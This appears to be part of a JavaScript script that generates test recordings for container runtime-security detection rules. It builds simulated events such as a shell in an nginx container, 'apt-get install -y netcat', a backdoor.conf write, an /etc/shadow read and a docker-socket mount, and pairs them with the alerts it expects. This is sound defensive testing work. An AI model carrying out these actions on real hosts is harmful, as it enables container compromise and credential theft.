  // reading /etc/shadow long after startup; and a container started with the docker socket
  // mounted. Negative cases: nginx writing its own log, a connection on port 80.
  const web = {
    'container.id': '5f3c2e9d8a71',
    'container.name': 'web',
    'container.image.repository': 'nginx',
    'container.image.tag': 'latest',
    'container.privileged': false,
    'container.start_ts': 1763120800000000000n,
  };
  const nginx = proc('nginx', {
    exepath: '/usr/sbin/nginx',
    cmdline: 'nginx -g daemon off;',
    pid: 5001,
    container: web,
    extra: { 'proc.duration': 3600000000000 },
  });
  const runc = proc('runc', { exepath: '/usr/bin/runc', cmdline: 'runc init', pid: 5040, container: web });
  const shell = proc('sh', { exepath: '/bin/dash', cmdline: 'sh', pid: 5041, parent: runc, container: web, tty: 34816 });
  const tool = proc('apt-get', { exepath: '/usr/bin/apt-get', cmdline: 'apt-get install -y netcat', pid: 5050, parent: shell, container: web, tty: 34816 });
  const s = new Stream().spawn(shell).spawn(tool);
  s.add(nginx, 'accept4', {
    'fd.num': 7,
    'fd.typechar': '4',
    'fd.type': 'ipv4',
    'fd.l4proto': 'tcp',
    'fd.cip': '172.17.0.1',
    'fd.cport': 51234,
    'fd.sip': '172.17.0.2',
    'fd.sport': 80,
    'fd.name': '172.17.0.1:51234->172.17.0.2:80',
    'evt.rawres': 7,
    'evt.res': 'SUCCESS',
  });
  s.add(nginx, 'accept4', {
    'fd.num': 8,
    'fd.typechar': '4',
    'fd.type': 'ipv4',
    'fd.l4proto': 'tcp',
    'fd.cip': '172.17.0.1',
    'fd.cport': 51240,
    'fd.sip': '172.17.0.2',
    'fd.sport': 8888,
    'fd.name': '172.17.0.1:51240->172.17.0.2:8888',
    'evt.rawres': 8,
    'evt.res': 'SUCCESS',
  });
  s.open(nginx, '/var/log/nginx/access.log', 'w', 9, 'O_APPEND|O_CREAT');
  s.open(shell, '/etc/nginx/conf.d/backdoor.conf', 'w', 3, 'O_CREAT|O_TRUNC');
  s.open(nginx, '/etc/shadow', 'r', 10);
  const mounted = {
    'container.id': '9b1e77c0d2aa',
    'container.name': 'tools',
    'container.image.repository': 'docker',
    'container.image.tag': 'cli',
    'container.privileged': false,
    'container.mounts': '/var/run/docker.sock:/var/run/docker.sock::true:private',
    'container.mount.dest[/var/run/docker.sock]': '/var/run/docker.sock',
  };
  const init = proc('docker', { exepath: '/usr/local/bin/docker', cmdline: 'docker ps', pid: 1, container: mounted });
  s.spawn(init);
  record(
    'labs',
    'docker-lab',
    'Seed 003 docker lab: shell in an nginx container, apt-get, port 8888, a write outside user data, /etc/shadow read by nginx, a container with the docker socket mounted; nginx log writes and port 80 do not fire',
    s,
    {
      default: [
        {
          rule: 'Terminal shell in container',
          priority: 'Warning',
          count: 1,
          fields: { 'proc.name': 'sh', 'proc.tty': 34816, 'container.id': '5f3c2e9d8a71' },
        },
        {
          rule: 'Unauthorized process on nginx containers',
          priority: 'Warning',
          count: 1,
          fields: { 'proc.cmdline': 'apt-get install -y netcat', 'container.image.repository': 'nginx' },
        },
        { rule: 'Unauthorized port on nginx containers', priority: 'Warning', count: 1, fields: { 'fd.sport': 8888 } },
        { rule: 'Write to non user_data dir', priority: 'Error', count: 1, fields: { 'fd.name': '/etc/nginx/conf.d/backdoor.conf' } },
        { rule: 'Read sensitive file trusted after startup', priority: 'Warning', count: 1, fields: { 'fd.name': '/etc/shadow', 'proc.name': 'nginx' } },
        { rule: 'Launch Sensitive Mount Container', priority: 'Informational', count: 1, fields: { 'container.id': '9b1e77c0d2aa' } },
      ],
    },
  );
}
console.log(`recordings written with ${FIELDS.length} fields per event`);
